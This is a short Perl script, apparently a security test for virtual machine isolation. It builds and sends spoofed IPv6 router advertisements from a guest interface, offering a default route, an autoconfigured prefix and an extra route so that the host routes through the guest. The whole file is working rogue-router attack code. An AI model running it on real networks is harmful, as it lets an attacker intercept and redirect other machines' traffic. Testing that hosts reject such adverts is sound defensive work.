# Sends crafted IPv6 router advertisements from the guest's eth0 to all nodes (ff02::1): what a
# malicious guest root can do to make the host route through it. Each offers a default route, an
# on-link prefix 2001:db8:1::/64 with autoconfiguration, and a route to 2001:db8:2::/48.
# Usage: perl router-advert.pl
use strict; use Socket;
open(my $f, "<", "/sys/class/net/eth0/ifindex") or die "no eth0"; my $ifindex = <$f>; chomp $ifindex;
open($f, "<", "/sys/class/net/eth0/address") or die; my $mac = <$f>; chomp $mac;
my @m = map { hex } split(/:/, $mac);
my $macb = pack("C6", @m);
# link-local source from the MAC (EUI-64)
my $src = pack("n4", 0xfe80, 0, 0, 0) . pack("C8", $m[0] ^ 2, $m[1], $m[2], 0xff, 0xfe, $m[3], $m[4], $m[5]);
my $dst = pack("n8", 0xff02, 0, 0, 0, 0, 0, 0, 1);
sub csum { my $d = shift; $d .= "\0" if length($d) % 2; my $s = 0; $s += $_ for unpack("n*", $d);
    $s = ($s >> 16) + ($s & 0xffff) while $s >> 16; return ~$s & 0xffff; }
my $opts = pack("C C", 1, 1) . $macb                                     # source link-layer address
    . pack("C C C C N N N", 3, 4, 64, 0xc0, 86400, 14400, 0) . pack("n8", 0x2001, 0xdb8, 1, 0, 0, 0, 0, 0)  # prefix
    . pack("C C C C N", 24, 2, 48, 0, 1800) . pack("n4", 0x2001, 0xdb8, 2, 0);                        # route
my $ra = pack("C C n C C n N N", 134, 0, 0, 64, 0, 1800, 0, 0) . $opts;
substr($ra, 2, 2) = pack("n", csum($src . $dst . pack("N", length($ra)) . pack("x3 C", 58) . $ra));
my $ip6 = pack("N n C C", 0x60000000, length($ra), 58, 255) . $src . $dst;
my $frame = pack("C6", 0x33, 0x33, 0, 0, 0, 1) . $macb . pack("n", 0x86dd) . $ip6 . $ra;
socket(my $s, 17, 3, 0) or die "socket: $!";
for my $i (1..3) {
    send($s, $frame, 0, pack("S n i S C C a8", 17, 0x86dd, $ifindex, 1, 0, 6, pack("C6", 0x33, 0x33, 0, 0, 0, 1)))
        or die "send: $!";
    select(undef, undef, undef, 0.3);
}
print "sent router advertisements\n";
